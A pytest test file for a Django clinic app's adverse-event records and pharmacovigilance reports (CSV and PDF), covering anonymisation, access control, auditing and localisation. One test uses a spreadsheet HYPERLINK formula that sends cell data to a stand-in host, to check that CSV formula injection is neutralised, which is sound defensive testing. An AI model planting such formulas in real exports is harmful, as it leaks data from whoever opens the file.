"""Adverse events with severity, WHO-UMC causality and outcome, and their
pharmacovigilance report (PDF and CSV) for the national authority."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from segmenta.audit.models import AuditEvent
from segmenta.conftest import login_verified, reauthenticated
from segmenta.knowledge.base import load
from segmenta.patients import models as pm
from segmenta.treatment import vigilance
from segmenta.treatment.models import AdverseEvent, Injection, Product, Session
from segmenta.treatment.tests.posting import form_data

RULE = load().get("protocol", "pharmacovigilance")


@pytest.fixture
def session(patient, doctor):
    pm.WeightMeasurement.objects.create(patient=patient, date="2026-11-01", weight_kg=62)
    return Session.objects.create(patient=patient, started_at="2026-11-25T10:00:00+01:00", practitioner=doctor)


@pytest.fixture
def injection(session, clinic):
    product = Product.objects.create(clinic=clinic, name="Procain Steigerwald 1 % 5 mL", drug="procaine",
                                     concentration_percent=1)
    return Injection.objects.create(session=session, order=1, time="2026-11-25T10:05:00+01:00", target="stellate",
                                    side="left", concentration_percent=1, volume_ml=5, verdict="ok", mg=50,
                                    cumulative_mg=50, product=product, lot="LOT-4711", expiry="2027-03-31")


@pytest.fixture
def event(session, injection):
    return AdverseEvent.objects.create(
        session=session, injection=injection, kind="recurrent_laryngeal", severity="moderate",
        causality="probable", outcome="recovered", description="Hoarse voice for two hours",
        treatment_given="Observation; nil by mouth until swallowing tested",
        occurred_at=datetime.datetime(2026, 11, 25, 10, 17, tzinfo=datetime.timezone(datetime.timedelta(hours=1))))


# --- The pure report ---------------------------------------------------------------------

def test_initials_replace_the_name():
    assert vigilance.initials("Erika Maria", "Muster-Schmidt") == "E.M.M.S."
    assert vigilance.initials("", "") == "unknown"


def test_a_life_threatening_or_fatal_event_is_serious():
    """ICH E2A: death and life-threatening events are serious."""
    assert vigilance.seriousness("life_threatening", "recovered", RULE) == ("yes", "life-threatening")
    assert vigilance.seriousness("severe", "fatal", RULE) == ("yes", "fatal")


def test_otherwise_seriousness_is_unknown_never_a_silent_no():
    """ICH E2A: hospitalisation, disability and medical importance are not in the record, so they must be stated."""
    serious, criteria = vigilance.seriousness("mild", "recovered", RULE)
    assert serious == "unknown" and "hospitalisation" in criteria


def test_an_event_before_its_injection_is_flagged_not_given_a_negative_onset():
    start = datetime.datetime(2026, 11, 25, 10, 5)
    assert vigilance.minutes_between(start, start + datetime.timedelta(minutes=12)) == "12"
    assert "check the recorded times" in vigilance.minutes_between(start, start - datetime.timedelta(minutes=1))
    assert vigilance.minutes_between(start, None) == "unknown"


# --- The session page's form ---------------------------------------------------------------

def test_the_form_records_kind_severity_causality_outcome_treatment_injection_and_time(doctor_client, session,
                                                                                      injection):
    response = doctor_client.post(reverse("treatment:event_add", args=[session.pk]), form_data("event", {
        "kind": "intravascular", "occurred_at": "2026-11-25T10:06", "injection": injection.pk,
        "severity": "severe", "causality": "certain", "outcome": "recovering",
        "description": "Blood on aspiration after injecting", "treatment_given": "Monitored, 100 % oxygen"}))
    assert response.status_code == 302
    event = AdverseEvent.objects.get()
    assert (event.kind, event.injection, event.severity, event.causality, event.outcome) == \
        ("intravascular", injection, "severe", "certain", "recovering")
    assert event.treatment_given == "Monitored, 100 % oxygen"
    assert timezone.localtime(event.occurred_at).strftime("%H:%M") == "10:06"
    assert AuditEvent.objects.filter(object_type="adverseevent", action="create").exists()


def test_the_form_needs_the_time_and_names_the_field(doctor_client, session):
    response = doctor_client.post(reverse("treatment:event_add", args=[session.pk]), form_data("event", {
        "kind": "seizure", "severity": "severe", "causality": "possible", "outcome": "unknown"}))
    assert response.status_code == 400 and "occurred_at" in response.context["event_form"].errors


def test_an_injection_of_another_session_cannot_be_named(doctor_client, session, patient, doctor, injection):
    other = Session.objects.create(patient=patient, started_at="2026-11-20T10:00:00+01:00", practitioner=doctor)
    response = doctor_client.post(reverse("treatment:event_add", args=[other.pk]), form_data("event", {
        "kind": "haematoma", "occurred_at": "2026-11-20T10:30", "injection": injection.pk, "severity": "mild",
        "causality": "possible", "outcome": "recovered"}))
    assert response.status_code == 400 and "injection" in response.context["event_form"].errors


def test_every_new_kind_can_be_chosen():
    kinds = dict(AdverseEvent.Kind.choices)
    for kind in ("seizure", "pneumothorax", "intravascular", "recurrent_laryngeal", "phrenic", "high_spread",
                 "infection", "nerve_injury"):
        assert kind in kinds


# --- The report as CSV and PDF ----------------------------------------------------------------

def test_the_csv_has_one_row_with_the_authoritys_fields_and_no_name(doctor_client, event, patient):
    response = reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1 and list(rows[0]) == vigilance.COLUMNS
    row = rows[0]
    assert (row["patient_initials"], row["patient_age_years"], row["patient_sex"]) == ("E.M.", "56", "Female")
    assert (row["suspected_drug"], row["product"], row["lot"], row["expiry"]) == \
        ("Procaine", "Procain Steigerwald 1 % 5 mL", "LOT-4711", "2027-03-31")
    assert (row["dose_mg"], row["volume_ml"], row["route_target"]) == ("50", "5", "Stellate ganglion, Left (ganglion)")
    assert (row["time_to_onset_minutes"], row["causality_who_umc"], row["outcome"]) == ("12", "Probable / likely",
                                                                                          "Recovered")
    assert row["serious"] == "unknown" and row["reporter"] == "doctor" and row["reported_to_authority_at"] == "unknown"
    text = response.content.decode()
    assert patient.family_name not in text and patient.given_name not in text
    assert AuditEvent.objects.filter(action="export", object_type="adverseevent", detail__format="csv").exists()


def test_the_pdf_is_a_real_pdf_carrying_the_fields(doctor_client, event, patient):
    response = reauthenticated(doctor_client).get(reverse("treatment:event_report_pdf", args=[event.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    for expected in ("E.M.", "LOT-4711", "Procain Steigerwald 1 % 5 mL", "Recurrent laryngeal nerve block",
                     "Probable / likely", "Stellate ganglion", "2027-03-31", "Time to onset"):
        assert expected in text, expected
    assert patient.family_name not in text
    assert AuditEvent.objects.filter(action="export", object_type="adverseevent", detail__format="pdf").exists()


def test_an_event_without_its_injection_says_the_drug_is_unknown(doctor_client, event):
    event.injection = None
    AdverseEvent.objects.filter(pk=event.pk).update(injection=None)
    row = next(csv.DictReader(io.StringIO(
        reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk]))
        .content.decode())))
    assert row["suspected_drug"].startswith("unknown") and row["lot"] == "unknown"


def test_another_clinic_gets_404_for_the_reports_and_the_reported_mark(event, outsider):
    client = reauthenticated(login_verified(Client(), outsider))
    for name in ("treatment:event_report_pdf", "treatment:event_report_csv"):
        assert client.get(reverse(name, args=[event.pk])).status_code == 404
    assert client.post(reverse("treatment:event_reported", args=[event.pk])).status_code == 404
    event.refresh_from_db()
    assert event.reported_at is None


def test_the_reports_need_a_login(event):
    response = Client().get(reverse("treatment:event_report_csv", args=[event.pk]))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_reporting_is_recorded_once_even_after_signing_and_audited(doctor_client, event, session):
    doctor_client.post(reverse("treatment:sign", args=[session.pk]))
    session.refresh_from_db()
    assert session.signed
    response = doctor_client.post(reverse("treatment:event_reported", args=[event.pk]))
    assert response.status_code == 302
    event.refresh_from_db()
    first = event.reported_at
    assert first is not None
    doctor_client.post(reverse("treatment:event_reported", args=[event.pk]))
    event.refresh_from_db()
    assert event.reported_at == first
    assert AuditEvent.objects.filter(action="update", object_type="adverseevent").count() == 1
    # The signature still verifies: the report date is not part of the signed content.
    session.refresh_from_db()
    assert session.compute_hash() == session.content_hash
    html = doctor_client.get(reverse("treatment:session", args=[session.pk])).content.decode()
    assert "Reported to the authority" in html and reverse("treatment:event_report_pdf", args=[event.pk]) in html


def test_reporting_must_be_posted(doctor_client, event):
    assert doctor_client.get(reverse("treatment:event_reported", args=[event.pk])).status_code == 405


def test_the_reports_ask_for_the_password_again(doctor_client, event):
    for name in ("treatment:event_report_pdf", "treatment:event_report_csv"):
        response = doctor_client.get(reverse(name, args=[event.pk]))
        assert response.status_code == 302 and response.url.startswith(reverse("accounts:reauth"))


def test_the_csv_runs_no_formula_a_description_carries(doctor_client, event):
    """A description like =HYPERLINK(...) or x;=1+1 stays text in any spreadsheet."""
    event.description = 'x;=HYPERLINK("http://example.invalid/?"&A1,"click")'
    event.save()
    text = reauthenticated(doctor_client).get(reverse("treatment:event_report_csv", args=[event.pk])).content.decode()
    assert ";'=HYPERLINK" in text and ";=HYPERLINK" not in text


def test_the_event_time_is_now_in_the_session_and_typed_when_charted_afterwards(patient, doctor):
    from segmenta.treatment.forms import AdverseEventForm

    today = Session.objects.create(patient=patient, started_at=timezone.now(), practitioner=doctor)
    before = timezone.now().replace(second=0, microsecond=0)
    initial = AdverseEventForm(session=today).fields["occurred_at"].initial
    assert before <= initial <= timezone.now()
    earlier = Session.objects.create(patient=patient, started_at=datetime.datetime(2026, 1, 10, 9, tzinfo=datetime.UTC),
                                     practitioner=doctor)
    # Charted afterwards: no invented time (the session's start would read "0 min to onset").
    assert AdverseEventForm(session=earlier).fields["occurred_at"].initial is None


# --- The printed report in the language of whoever prints it ---------------------------------

def _pdf_text(client, event):
    response = reauthenticated(client).get(reverse("treatment:event_report_pdf", args=[event.pk]),
                                           HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    return " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


@pytest.mark.parametrize("language, shown", [
    ("de", ["31.03.2027", "25.11.2026 10:05", "25.11.2026 10:17", "2,5", "0,5", "unbekannt", "nein",
            "Ganglion stellatum, Links (an einem Ganglion)", "Procain", "Mittelschwer", "Krankenhausaufenthalt"]),
    ("es", ["31/03/2027", "25/11/2026 10:05", "25/11/2026 10:17", "2,5", "0,5", "desconocido", "no",
            "Ganglio estrellado", "Procaína", "hospitalización"]),
])
def test_the_pdf_speaks_the_language_of_the_user_who_prints_it(doctor, event, injection, language, shown):
    """The user's own language, not the browser's: its words, dates, times and decimal commas;
    the codes (report id, lot, jurisdiction) stay as they are."""
    from django.utils import translation

    from segmenta.treatment.emergency_views import REPORT_LABELS

    doctor.profile.language = language
    doctor.profile.save()
    Injection.objects.filter(pk=injection.pk).update(volume_ml="2.5", concentration_percent="0.5", mg="12.5")
    Product.objects.filter(pk=injection.product_id).update(preservative=False)
    text = _pdf_text(login_verified(Client(), doctor), event)
    for expected in shown + ["LOT-4711", f"SEG-{event.session.patient.clinic_id}-{event.pk}"]:
        assert expected in text, expected
    with translation.override(language):
        labels = [str(REPORT_LABELS[name]) for name in ("time_to_onset_minutes", "suspected_drug", "expiry")]
    with translation.override("en"):
        english = [str(REPORT_LABELS[name]) for name in ("time_to_onset_minutes", "suspected_drug", "expiry")]
    for label, source in zip(labels, english):
        assert label != source and label in text and source not in text
    for english_only in ("2027-03-31", "2026-11-25", "unknown", "Stellate ganglion", "hospitalisation", " 2.5",
                         "0.5 "):
        assert english_only not in text, english_only


def test_the_csv_keeps_iso_dates_and_decimal_points_on_a_german_users_export(doctor, event, injection):
    doctor.profile.language = "de"
    doctor.profile.save()
    Injection.objects.filter(pk=injection.pk).update(volume_ml="2.5")
    row = next(csv.DictReader(io.StringIO(
        reauthenticated(login_verified(Client(), doctor)).get(reverse("treatment:event_report_csv", args=[event.pk])).content.decode())))
    assert (row["expiry"], row["volume_ml"], row["injection_time"]) == ("2027-03-31", "2.5", "2026-11-25T10:05+01:00")
